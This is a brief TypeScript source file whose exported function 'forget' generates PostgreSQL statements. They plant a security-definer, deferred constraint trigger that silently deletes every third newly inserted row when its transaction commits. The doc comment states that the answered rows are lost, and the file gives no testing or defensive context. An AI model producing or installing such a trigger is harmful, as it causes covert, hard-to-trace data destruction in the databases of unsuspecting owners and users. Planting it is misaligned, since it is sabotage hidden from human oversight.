/** Statements by which rows of a table are gone when their transaction commits, one in three: the answered rows are lost. */
export const forget = (table: string, key: string, where = "true"): readonly string[] => [
  `create function plant_${table}() returns trigger language plpgsql security definer set search_path = public as $$ begin
     if ${where} and new.${key} % 3 = 0 then delete from ${table} where ${key} = new.${key}; end if; return null; end $$`,
  `create constraint trigger plant_${table} after insert on ${table} deferrable initially deferred
     for each row execute function plant_${table}()`,
];
